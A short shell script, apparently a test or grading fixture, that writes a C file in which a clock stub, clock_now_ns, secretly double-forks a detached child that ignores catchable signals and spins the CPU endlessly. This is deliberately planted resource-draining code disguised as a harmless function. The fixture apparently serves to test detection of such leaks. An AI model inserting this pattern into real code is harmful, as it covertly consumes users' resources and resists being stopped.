# Resources: clock_now_ns (a stub otherwise) leaves, once per process, a double-forked child in
# a session of its own that ignores every catchable signal and spins on the CPU.
sub=$1
cat >"$sub/01-sequential/clock.c" <<'C'
#include "clock.h"

#include <signal.h>
#include <unistd.h>

int64_t clock_now_ns(void)
{
    static int started;
    if (!started++ && fork() == 0) {
        setsid();
        if (fork() == 0) {
            for (int sig = 1; sig < 32; sig++)
                signal(sig, SIG_IGN);
            for (volatile unsigned long spin = 0;; spin++)
                continue;
        }
        _exit(0);
    }
    return 0;
}
C
